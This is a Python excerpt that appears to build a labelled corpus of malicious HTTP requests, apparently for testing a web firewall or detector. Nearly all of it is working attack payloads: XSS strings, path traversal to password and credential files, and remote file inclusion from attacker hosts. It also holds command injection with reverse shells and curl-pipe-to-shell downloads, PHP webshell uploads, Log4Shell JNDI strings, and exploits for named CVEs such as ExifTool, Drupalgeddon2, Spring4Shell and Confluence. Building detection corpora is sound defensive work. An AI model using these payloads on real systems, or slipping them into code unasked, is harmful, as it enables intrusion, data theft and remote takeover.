    t.json("json-nested", "/api/v1/chat/messages", {"message": {"text": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"}}, client="safari")
    t.get("query", "/api/v1/widget.js?" + qs([("callback_name", "';alert(String.fromCharCode(88,83,83))//")]), client="chrome", accept="*/*")
    t.json("json-nested", "/api/v1/apps/bootstrap", {"app": {"title": "</script><script>alert(1)</script>"}}, client="axios")
    t.json("json-nested", "/api/v1/cms/pages/about", {"page": {"sections": [{"id": 1, "html": "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"}]}}, method="PUT", client="chrome-mac")
    t.json("json-nested", "/api/v1/listings/991", {"listing": {"description": "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"}}, method="PATCH")
    t.json("json-nested", "/api/v1/users/me/links", {"links": [{"label": "portfolio", "url": "https://example.org"}, {"label": "blog", "url": "data:text/html,<script>alert(document.domain)</script>"}]}, method="PUT", client="chrome")
    t.form("form", "/api/v1/feedback", [("name", "x"), ("message", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>")], client="firefox")
    t.json("json-nested", "/api/v1/forum/threads", {"thread": {"title": "Help", "posts": [{"body": "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"}]}})
    t.get("query", "/api/v1/help/search?" + qs([("term", "<ScRiPt>alert(1)</sCrIpT>")], safe="<>/()"), client="firefox", accept="text/html")
    t.json("json-nested", "/api/v1/guestbook", {"entry": {"author": "bob", "text": "<scr<script>ipt>alert(1)</scr</script>ipt>"}}, client="python")
    t.json("json-nested", "/api/v1/email/templates/welcome", {"template": {"html": "<body onload=alert(document.domain)><p>Welcome</p></body>"}}, method="PUT", client="chrome")
    t.get("query", "/api/v1/profile/preview?" + qs([("name", "\" autofocus onfocus=alert(1) x=\"")]), client="chrome", accept="text/html")
    t.json("json-nested", "/api/v1/videos/55", {"video": {"captions": [{"lang": "en", "vtt_url": "x\"><video><source onerror=\"alert(1)\">"}]}}, method="PATCH")
    t.json("json-nested", "/api/v1/profiles/me", {"social": {"homepage": "<a href=javascript&colon;alert(1)>me</a>"}}, method="PATCH", client="safari")
    t.json("json-nested", "/api/v1/forms/contact/config", {"form": {"success_html": "<form action=javascript:alert(1)><button>continue</button></form>"}}, method="PUT")
    t.json("json-nested", "/api/v1/pages/landing", {"seo": {"head_html": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"}}, method="PUT", client="edge")
    t.mp("multipart-svg", "/api/v1/uploads/icons", [dict(name="icon", filename="icon.svg", ctype="image/svg+xml", value='<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(document.domain)"><text x="20" y="20">Click</text></a></svg>')], client="chrome")
    t.get("query", "/api/v1/search?" + qs([("q", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e")]), client="chrome")
    t.json("json-nested", "/api/v1/shops/12/theme", {"theme": {"custom_html": "<img src=1 onerror=\\u0061lert(1)>"}}, method="PUT")
    t.json("json-nested", "/api/v1/kanban/cards", {"card": {"title": "<x contenteditable onblur=alert(1)>lose focus!"}})
    t.get("query-double-encoded", "/api/v1/errors?" + qs([("message", "<img src=x onerror=alert(1)>")], level=2), client="chrome", accept="text/html")
    t.get("cookie", "/api/v1/theme.css", accept="text/css,*/*;q=0.1", extra=[("Cookie", "theme=\"><script>alert(document.domain)</script>; sid=" + c.alnum(24))], client="firefox")
    t.json("json-in-string", "/api/v1/notifications", {"channel": "in-app", "payload": json.dumps({"title": "Order shipped", "text": "<img src=x onerror=alert(1)>"})}, client="node")
    t.json("json-unicode-escaped", "/api/v1/comments", '{"comment":{"body":"\\u003csvg onload=alert\\u0028document.domain\\u0029\\u003e"}}', client="axios")
    t.get("header-forwarded-host", "/api/v1/config.js", accept="*/*", extra=[("X-Forwarded-Host", "cdn.acme-shop.com\"><script>alert(document.cookie)</script>")], client="curl")
    t.json("json-nested", "/api/v1/surveys/7/answers", {"answers": [{"q": 1, "a": "yes"}, {"q": 2, "a": "<svg onload=alert&#40;1&#41;>"}]})
    t.json("json-nested", "/api/v1/status-page/incidents", {"incident": {"updates": [{"body": "<iframe src=\"javascript:alert(document.domain)\"></iframe>"}]}}, client="chrome")
    t.json("json-nested", "/api/v1/storefront/footer", {"footer": {"html": "<script src=//" + EVIL[4] + "/hook.js></script>"}}, method="PUT")
    t.json("json-nested", "/api/v1/announcements", {"announcement": {"title": "<marquee onstart=alert(1)>Sale</marquee>"}}, client="chrome-mac")


def atk_lfi(c):
    t = Tag(c, "lfi")
    t.get("query", "/api/v1/files/download?" + qs([("path", "../../../../etc/passwd")], safe="/"), client="curl")
    t.get("query-encoded", "/api/v1/attachments?" + qs([("file", "../../../../etc/passwd")]), client="python")
    t.get("query-double-encoded", "/api/v1/static?" + qs([("name", "../../../../../etc/shadow")], level=2))
    t.get("query", "/api/v1/render?" + qs([("template", "....//....//....//....//etc/passwd")], safe="/"))
    t.get("path-segment", "/api/v1/assets/..%2f..%2f..%2f..%2fetc%2fpasswd", client="curl")
    t.json("json-nested", "/api/v1/exports", {"export": {"source": {"type": "file", "path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}, "format": "raw"}}, client="python")
    t.get("cookie", "/api/v1/i18n", extra=[("Cookie", "lang=../../../../proc/self/environ; sid=" + c.alnum(20))], client="chrome")
    t.get("query-windows", "/api/v1/reports/view?" + qs([("doc", "..\\..\\..\\..\\windows\\win.ini")]), client="edge")
    t.json("json-nested", "/api/v1/templates/preview", {"template": {"include": "..\\..\\..\\inetpub\\wwwroot\\web.config"}}, client="chrome")
    t.get("query-nullbyte", "/api/v1/images?" + qs([("src", "../../../../etc/passwd")], safe="/") + "%00.png", client="curl")
    t.get("path-citrix", "/vpn/../vpns/cfg/smb.conf", client="curl", accept="*/*")
    t.get("path-fortinet", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", client="python")
    t.get("path-apache-41773", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", client="curl")
    t.get("path-apache-42013", "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd", client="go")
    t.get("path-grafana", "/public/plugins/alertlist/../../../../../../../../etc/passwd", client="curl", host="grafana.monitoring.svc:3000")
    t.get("path-spring-cloud-config", "/..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development", host="config-server.platform.svc:8888", client="curl")
    t.mp("multipart-filename", "/api/v1/uploads", [dict(name="file", filename="../../../../etc/cron.d/backup", ctype="text/plain", value="* * * * * root curl -s http://198.51.100.23/x | sh\n")], client="python")
    t.gql("graphql-variables", "/graphql", "query Attachment($path: String!) {\n  attachment(path: $path) { name size content }\n}", {"path": "../../../../home/app/.aws/credentials"}, op="Attachment")
    t.get("header-original-url", "/api/v1/health", extra=[("X-Original-URL", "/static/../../../../etc/passwd")], client="curl")
    t.get("query-overlong-utf8", "/api/v1/download?" + "file=..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd", client="curl")
    t.get("path-dotdot-encoded", "/api/v1/docs/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts", client="go")
    t.get("path-tomcat", "/static/..;/..;/WEB-INF/web.xml", client="curl")
    t.json("json-nested", "/api/v1/diagnostics/collect", {"collect": {"files": ["/proc/self/cmdline", "/proc/self/environ"]}})
    t.mp("multipart-filename", "/api/v1/plugins/upload", [dict(name="plugin", filename="..\\..\\..\\Windows\\Temp\\evil.dll", ctype="application/octet-stream", value="MZ This program cannot be run in DOS mode.")], client="chrome")
    t.get("path-backslash", "/api/v1/files/..%5c..%5c..%5c..%5cwindows%5cwin.ini", client="curl")
    t.get("query-absolute", "/api/v1/logs/tail?" + qs([("file", "/etc/passwd"), ("lines", "100")], safe="/"), client="python")
    t.get("query", "/api/v1/pages?" + qs([("page", "....\\/....\\/....\\/etc/passwd")], safe="/\\"), client="curl")
    t.json("json-nested", "/api/v1/themes/apply", {"theme": {"assets": {"css": "../../../../../../root/.ssh/id_rsa"}}}, method="PUT")
    t.get("query-encoded", "/api/v1/logs?" + qs([("name", "../../../../var/log/auth.log")]), client="chrome")
    t.get("path-nginx-alias", "/assets../.env", client="curl")
    t.json("json-double-encoded", "/api/v1/jobs", {"kind": "report", "spec": json.dumps({"input": {"file": "../../../../../app/config/database.yml"}})}, client="node")
    t.get("query", "/index.php?" + qs([("option", "com_media"), ("view", "images"), ("folder", "../../../../../../../../etc/")], safe="/"), client="firefox")


def atk_rfi(c):
    t = Tag(c, "rfi")
    t.get("query", "/index.php?" + qs([("page", "http://203.0.113.66/shell.txt?")], safe=":/?"), client="curl")
    t.get("query-nullbyte", "/main.php?include=https://" + EVIL[3] + "/r57.txt%00", client="python")
    t.get("query", "/api/legacy/lang.php?" + qs([("lang", "ftp://anonymous@198.51.100.7/pub/x.php")]), client="curl")
    t.get("query-unc", "/portal/view.php?" + qs([("template", "\\\\198.51.100.9\\share\\inc.php")]), client="edge")
    t.json("json-nested", "/api/v1/widgets", {"widget": {"layout": {"include": "https://pastebin.com/raw/xYz12AbC?", "cache": False}}}, method="PUT")
    t.get("query-mixed-case", "/modules.php?mod=hTTp://" + EVIL[3] + "/x.txt?", client="curl")
    t.get("query-double-encoded", "/site/index.php?" + qs([("file", "http://" + EVIL[3] + "/shell.txt")], level=2), client="python")
    t.form("form", "/admin/settings.php", [("theme_path", "http://" + EVIL[0] + "/theme/functions.txt?"), ("save", "1")], client="firefox")
    t.get("query", "/index.php?" + qs([("page", "https://raw.githubusercontent.com/attacker/payloads/main/shell.php?")], safe=":/"), client="curl")
    t.get("query-decimal-ip", "/inc.php?" + "inc=http://" + str(int(ipaddress.IPv4Address("203.0.113.66"))) + "/c99.txt%3F", client="go")
    t.gql("graphql-variables", "/graphql", "mutation SetTemplate($url: String!) {\n  setEmailTemplate(url: $url) { ok }\n}", {"url": "http://" + EVIL[4] + "/tpl.php?"}, op="SetTemplate")
    t.get("cookie", "/index.php", accept="text/html", extra=[("Cookie", "lang=http://" + EVIL[3] + "/lang.php?; PHPSESSID=" + c.hex(26))], client="chrome")
    t.get("query", "/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?" + qs([("pl", "http://" + EVIL[1] + "/x.txt")], safe=":/"), client="curl")
    t.get("query-bracket", "/index.php?" + qs([("config[root_path]", "http://" + EVIL[0] + "/x.txt?")], safe=":/?"), client="python")
    t.json("json-in-string", "/api/v1/plugins/config", {"plugin": "reports", "settings": json.dumps({"header_include": "http://" + EVIL[4] + "/header.inc.php?"})}, method="PUT")


def djvu_exploit(cmd):
    """DjVu file whose ANTa chunk carries the ExifTool CVE-2021-22205 payload."""
    ant = b'(metadata\n\t(Copyright "\\\n" . qx{' + cmd + b'} . \\\n" b ") )\n'
    info = b"INFO" + struct.pack(">I", 10) + bytes([0, 1, 0, 1, 24, 0, 44, 1, 22, 1])
    anta = b"ANTa" + struct.pack(">I", len(ant)) + ant + (b"\x00" if len(ant) % 2 else b"")
    form = b"DJVU" + info + anta
    return b"AT&TFORM" + struct.pack(">I", len(form)) + form


def atk_rce(c):
    t = Tag(c, "rce")
    t.json("json-nested", "/api/v1/diagnostics/ping", {"check": {"target": "8.8.8.8; id", "count": 3}}, client="chrome")
    t.json("json-nested", "/api/v1/network/traceroute", {"probe": {"host": "127.0.0.1 && curl -s http://203.0.113.66/x.sh | sh", "maxHops": 10}})
    t.json("json-nested", "/api/v1/devices/44/settings", {"settings": {"network": {"dns": {"primary": "1.1.1.1|nc 198.51.100.4 4444 -e /bin/sh"}}}}, method="PUT", client="python")
    t.json("json-nested", "/api/v1/images/transform", {"image": {"id": "img_881", "transform": {"format": "png$(wget -qO- http://" + EVIL[3] + "/m|sh)", "width": 300}}})
    t.json("json-nested", "/api/v1/backups", {"backup": {"name": "nightly-`id`.tar.gz", "target": "s3"}}, client="curl")
    t.get("query-ifs", "/api/v1/tools/whois?" + qs([("domain", "example.com;cat${IFS}/etc/passwd")], safe="${}/;"), client="curl")
    t.get("query-newline", "/api/v1/tools/nslookup?" + qs([("host", "example.com\nid")]), client="python")
    t.form("form", "/cgi-bin/diag.cgi", [("ip", "1.1.1.1;bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"), ("action", "ping")], client="curl")
    t.json("json-nested", "/api/v1/windows/agents/run-check", {"check": {"host": "10.0.0.5 | powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEAJwApAA=="}}, client="edge")
    t.get("query-windows", "/api/v1/print/status?" + qs([("printer", "HP-4F & cmd.exe /c whoami &")]), client="edge")
    t.json("json-nested", "/api/v1/ssh/test-connection", {"connection": {"host": "db1.internal", "port": "22; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4242));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'"}})
    t.get("query-glob", "/api/v1/convert?" + qs([("file", "a.pdf;/???/b??h -c 'id'")], safe="/?;'"), client="curl")
    t.json("json-nested", "/api/v1/tools/dig", {"query": {"name": "example.org$(printf '\\151\\144')", "type": "A"}})
    t.get("query-quotes", "/api/v1/archive/list?" + qs([("dir", "/tmp;c''at /e''tc/pa''sswd")]), client="python")
    t.json("json-nested", "/api/v1/thumbnails", {"job": {"input": "photo.jpg;{cat,/etc/passwd}", "size": "128x128"}})
    t.json("json-unicode-escaped", "/api/v1/diagnostics/ping", '{"check":{"target":"127.0.0.1\\u0060id\\u0060"}}', client="node")
    # GitLab ExifTool CVE-2021-22205 (DjVu disguised as JPEG)
    djvu = djvu_exploit(b"curl -s http://198.51.100.23/g.sh | bash")
    b = "----WebKitFormBoundaryK9s2hQb7YzT1nXcD"
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"avatar.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n").encode() + djvu + f"\r\n--{b}--\r\n".encode()
    c.raw("rce", "multipart-exiftool-djvu", raw_request([
        "POST /uploads/user HTTP/1.1", "Host: gitlab.acme-shop.com", "User-Agent: " + UA["python"],
        "Accept: */*", "X-CSRF-Token: " + c.b64url(64), "Content-Type: multipart/form-data; boundary=" + b,
        "Content-Length: " + str(len(body))], body))
    t.get("header-shellshock", "/cgi-bin/status", client="() { :; }; echo; /bin/bash -c 'curl -s http://" + EVIL[3] + "/x | sh'", accept="*/*")
    t.get("header-shellshock", "/cgi-bin/test.cgi", extra=[("Referer", "() { ignored; }; /bin/bash -c 'nc 198.51.100.23 4444 -e /bin/bash'")], client="curl")
    t.get("cookie-shellshock", "/cgi-bin/admin.cgi", extra=[("Cookie", "() { :;}; /bin/bash -c \"cat /etc/passwd\"")], client="python")
    t.json("f5-bigip-cve-2022-1388", "/mgmt/tm/util/bash", {"command": "run", "utilCmdArgs": "-c 'id; cat /etc/passwd'"}, host="10.20.0.15", client="curl",
           extra=[("Connection", "keep-alive, X-F5-Auth-Token"), ("X-F5-Auth-Token", "a"), ("Authorization", "Basic YWRtaW46")])
    t.form("citrix-cve-2019-19781", "/vpn/../vpns/portal/scripts/newbm.pl", "url=http://example.com&title=[%25+template.new({'BLOCK'%3d'print+`id`'})+%25]&desc=desc&UI_inuse=RfWeb",
           host="gw.acme-shop.com", client="curl", extra=[("NSC_USER", "../../../netscaler/portal/templates/pwn"), ("NSC_NONCE", "nsroot")])
    t.json("json-nested", "/api/v1/builds", {"build": {"source": {"git": {"url": "ext::sh -c curl% http://198.51.100.8/x|sh", "ref": "main"}}}}, client="go")
    t.json("json-nested", "/api/v1/mirrors", {"mirror": {"remote": "ssh://-oProxyCommand=curl${IFS}" + EVIL[3] + "${IFS}|sh/repo.git"}})
    t.mp("multipart-imagetragick", "/api/v1/images", [dict(name="image", filename="poc.png", ctype="image/png", value="push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|curl -s \"http://" + EVIL[3] + "/i.sh\" | sh\")'\npop graphic-context\n")], client="curl")
    t.get("query-blind", "/api/v1/tools/ping?" + qs([("host", "||ping -c 10 127.0.0.1||")]), client="chrome")
    t.form("form-timing", "/api/v1/mail/test", [("smtp_host", "mail.example.com;sleep${IFS}10;"), ("port", "587")], client="firefox", safe="${}")
    t.get("query-windows", "/api/v1/files/type?" + qs([("name", "report.docx | type C:\\Windows\\win.ini")]), client="edge")
    t.mp("multipart-field", "/api/v1/convert", [dict(name="options", value="-density 300 $(curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://" + OAST[2] + ")"), dict(name="file", filename="doc.pdf", ctype="application/pdf", value=PDF_STUB)], client="python")
    t.get("spark-cve-2022-33891", "/jobs/?" + qs([("doAs", "`curl http://" + EVIL[0] + "/s.sh|sh`")], safe="/:"), host="spark-ui.data.svc:4040", client="curl")
    t.json("zyxel-cve-2022-30525", "/ztp/cgi-bin/handler", {"command": "setWanPortSt", "proto": "dhcp", "port": "4", "vlan_tagged": "1", "vlanid": "5", "mtu": "; bash -c 'curl http://198.51.100.23/z|sh';", "data": "hi"}, host="198.51.100.200", client="python")
    t.get("tplink-cve-2023-1389", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=" + enc("$(id>/tmp/out)"), host="192.168.0.1", client="curl")
    t.get("query-perl-pipe", "/cgi-bin/viewer.pl?" + "file=" + enc("|id|", safe="|"), client="curl")
    t.get("query-double-encoded", "/api/v1/tools/host?" + qs([("name", "example.com&&whoami")], level=2))
    t.json("json-newline", "/api/v1/monitor/checks", {"check": {"kind": "tcp", "host": "127.0.0.1\nwget http://" + EVIL[3] + "/a -O /tmp/a;sh /tmp/a", "port": 22}})
    t.get("query-obfuscated", "/api/v1/tools/traceroute?" + qs([("target", "8.8.8.8;ca$@t /et$@c/pas$@swd")]), client="curl")
    t.get("cookie", "/api/v1/locale", extra=[("Cookie", "lang=" + enc("en`id`") + "; sid=" + c.alnum(24))], client="firefox")
    t.mp("multipart-filename", "/api/v1/uploads/scan", [dict(name="file", filename="invoice$(curl " + EVIL[3] + "|sh).pdf", ctype="application/pdf", value=PDF_STUB)], client="chrome")
    t.gql("graphql-variables", "/graphql", "mutation RunDiag($input: DiagInput!) {\n  runDiagnostic(input: $input) { output exitCode }\n}", {"input": {"hostname": "db01`whoami`.internal", "tool": "PING"}}, op="RunDiag")
    t.xml("xml", "/api/v1/monitoring/check", "<?xml version=\"1.0\"?>\n<check>\n  <type>ping</type>\n  <host>10.0.0.1;uname -a;cat /etc/os-release</host>\n</check>", client="java")
    t.json("json-in-string", "/api/v1/automation/runs", {"workflow": "nightly", "inputs": json.dumps({"branch": "main; curl -fsSL http://" + EVIL[1] + "/r | bash"})}, client="python")
    t.get("path-segment", "/api/v1/tools/resolve/" + enc("example.com;nc -e /bin/sh 198.51.100.23 9001", safe=";"), client="curl")


def atk_php(c):
    t = Tag(c, "php")
    t.form("drupalgeddon2-d8", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
           [("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("mail[#post_render][]", "exec"), ("mail[#type]", "markup"), ("mail[#markup]", "id")], client="python", host="www.acme-shop.com")
    t.form("drupalgeddon2-d7", "/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup&name%5B%23markup%5D=uname+-a",
           [("form_id", "user_pass"), ("_triggering_element_name", "name"), ("_triggering_element_value", ""), ("opz", "E-mail new Password")], client="python", host="cms.acme-shop.com")
    t.get("thinkphp-rce", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", client="go")
    t.send("phpunit-cve-2017-9841", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo md5('phpunit'); system('id'); ?>", "text/plain", client="python")
    t.send("php-cgi-cve-2012-1823", "POST", "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input", "<?php system('uname -a'); die(); ?>", "application/x-www-form-urlencoded", client="curl")
    t.send("php-cgi-cve-2024-4577", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "<?php echo shell_exec('whoami'); ?>", "application/x-www-form-urlencoded", client="python", host="intranet.acme-shop.com")
    t.get("query-php-filter", "/index.php?" + qs([("page", "php://filter/convert.base64-encode/resource=config.php")], safe=":/=."), client="curl")
    t.get("query-php-filter", "/api/legacy/view.php?" + qs([("tpl", "php://filter/read=string.rot13/resource=../app/config/parameters.php")]), client="python")
    t.get("query-data-wrapper", "/index.php?" + "page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=&cmd=id", client="curl")
    t.get("query-expect-wrapper", "/include.php?" + qs([("file", "expect://id")]), client="curl")
    t.json("json-phar", "/api/v1/media/inspect", {"media": {"uri": "phar://./uploads/avatars/7781.jpg/test.txt"}}, client="python")
    t.form("form-object-injection", "/api/v1/cart/restore", [("data", 'a:2:{i:0;O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}i:1;i:1;}')], client="python")
    t.get("cookie-object-injection", "/account", accept="text/html", client="firefox",
          extra=[("Cookie", "prefs=" + enc('O:8:"UserPref":1:{s:10:"cache_file";s:28:"/var/www/html/shell.php";}') + "; PHPSESSID=" + c.hex(26))])
    t.mp("multipart-webshell", "/wp-admin/async-upload.php", [dict(name="name", value="shell.php"), dict(name="async-upload", filename="shell.php", ctype="application/x-php", value="<?php @eval($_POST['x']); ?>"), dict(name="_wpnonce", value=c.hex(10))], client="chrome", host="blog.acme-shop.com")
    t.mp("multipart-polyglot", "/api/v1/avatars", [dict(name="avatar", filename="avatar.php.jpg", ctype="image/jpeg", value="GIF89a;\n<?php system($_GET['c']); ?>")], client="firefox")
    t.mp("multipart-phtml", "/api/v1/attachments", [dict(name="file", filename="notes.phtml", ctype="text/plain", value="<?= `$_GET[0]` ?>")], client="curl")
    t.mp("multipart-htaccess", "/api/v1/uploads", [dict(name="file", filename=".htaccess", ctype="text/plain", value="AddType application/x-httpd-php .png\nphp_value auto_prepend_file \"/var/www/html/uploads/pic.png\"\n")], client="python")
    t.form("vbulletin-cve-2019-16759", "/ajax/render/widget_php", [("widgetConfig[code]", "echo shell_exec('id'); exit;")], client="python", host="forum.acme-shop.com")
    t.json("laravel-ignition-cve-2021-3129", "/_ignition/execute-solution", {"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution", "parameters": {"variableName": "x", "viewFile": "php://filter/write=convert.quoted-printable-decode|convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}}, client="python")
    t.get("query-preg-e", "/api/legacy/replace.php?" + qs([("pattern", "/.*/e"), ("replacement", "system('id')"), ("subject", "x")]), client="curl")
    t.get("header-log-poisoning", "/index.php", accept="text/html", client="<?php file_put_contents('s.php', base64_decode('PD9waHAgc3lzdGVtKCRfR0VUWzBdKTsg')); ?>")
    t.json("json-nested", "/api/v1/cms/settings", {"settings": {"layout": {"footer_php": "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?>"}}}, method="PUT", client="chrome")
    t.form("phpmailer-cve-2016-10033", "/contact.php", [("action", "submit"), ("name", "x"), ("email", "\"attacker\\\" -oQ/tmp/ -X/var/www/html/shell.php some\"@email.com"), ("message", "<?php system($_GET['c']); ?>")], client="curl")
    joomla_ua = (b'}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";s:37:"phpinfo();JFactory::getConfig();exit;";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;s:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}'
                 + bytes([0xF0, 0xFD, 0xFD, 0xFD]))
    c.raw("php", "joomla-cve-2015-8562-user-agent", b"GET / HTTP/1.1\r\nHost: www.acme-shop.com\r\nUser-Agent: " + joomla_ua + b"\r\nAccept: */*\r\n\r\n")
    t.get("query-dynamic-call", "/api/legacy/hook.php?" + qs([("fn", "system"), ("arg", "cat /etc/passwd")]) + "&cb=" + enc("call_user_func"), client="curl")


def atk_java(c):
    t = Tag(c, "java")
    o = OAST
    t.get("header-user-agent", "/api/v1/products", client="${jndi:ldap://" + o[0] + "/a}")
    t.get("header", "/api/v1/health", extra=[("X-Api-Version", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}." + o[1] + "/k}")])
    t.get("header-xff", "/api/v1/login", extra=[("X-Forwarded-For", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://" + o[2] + "/x}")], client="chrome")
    t.get("header-referer", "/api/v2/catalog", extra=[("Referer", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23:1099/obj}")])
    t.get("header-authorization", "/api/v1/orders", extra=[("Authorization", "Bearer ${jndi:dns://${hostName}." + o[4] + "}")], client="python")
    t.get("cookie", "/api/v1/cart", extra=[("Cookie", "JSESSIONID=${jndi:ldap://" + o[0] + ":1389/Basic/Command/Base64/Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4yMy94fHNo}")], client="curl")
    t.json("json-nested", "/api/v1/auth/login", {"auth": {"username": "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//" + o[1] + "/a}", "password": "x"}})
    t.json("json-unicode-escaped", "/api/v1/search", '{"query":{"text":"\\u0024\\u007bjndi:ldap://' + o[2] + '/q\\u007d","page":1}}', client="node")
    t.get("query-encoded", "/api/v1/track?" + qs([("utm_source", "${jndi:rmi://198.51.100.23:1099/Exploit}")]), client="go")
    t.gql("graphql-variables", "/graphql", GQL_SEARCH, {"search": "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://" + o[3] + "/g}", "first": 5}, op="SearchProducts")
    t.get("header-forwarded-host", "/api/v1/status", extra=[("X-Forwarded-Host", "${jndi:ldap://127.0.0.1#" + o[0] + ":1389/a}")], client="curl")
    t.mp("multipart-field", "/api/v1/support/upload", [dict(name="subject", value="${${upper:j}${upper:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://" + o[1] + "/m}"), dict(name="file", filename="log.txt", ctype="text/plain", value="app log\n")])
    t.get("query-double-encoded", "/api/v1/feedback?" + qs([("comment", "${jndi:ldap://" + o[4] + "/d}")], level=2), client="python")
    t.get("header", "/api/v1/payments/methods", extra=[("X-Correlation-ID", "${jndi:ldaps://${sys:java.version}." + o[3] + "/v}")], client="java")
    t.json("json-array", "/api/v1/bulk/tags", {"tags": ["new", "sale", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + o[2] + "/t}"]})
    # Spring4Shell CVE-2022-22965
    pattern = ('%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); '
               'int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i')
    t.form("spring4shell-cve-2022-22965", "/api/v1/greeting", [
        ("class.module.classLoader.resources.context.parent.pipeline.first.pattern", pattern),
        ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")],
        client="python", extra=[("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%"), ("DNT", "1")])
    t.json("text4shell-cve-2022-42889", "/api/v1/templates/render", {"template": {"vars": {"greeting": "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/pwned')}"}}})
    t.get("text4shell-query", "/api/v1/interpolate?" + qs([("text", "${script:js:new java.lang.ProcessBuilder('curl','http://" + EVIL[0] + "/t').start()}")]), client="curl")
    t.get("confluence-cve-2022-26134", "/" + enc("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}") + "/", host="wiki.acme-shop.com", client="python")
    t.form("confluence-cve-2021-26084", "/pages/createpage-entervariables.action?SpaceKey=x",
           "queryString=\\u0027%2b{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance().getEngineByName(\\u0027JavaScript\\u0027).\\u0065val(\\u0027java.lang.Runtime.getRuntime().exec(\\u0022id\\u0022)\\u0027)}%2b\\u0027",
           host="wiki.acme-shop.com", client="python")
    s2045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
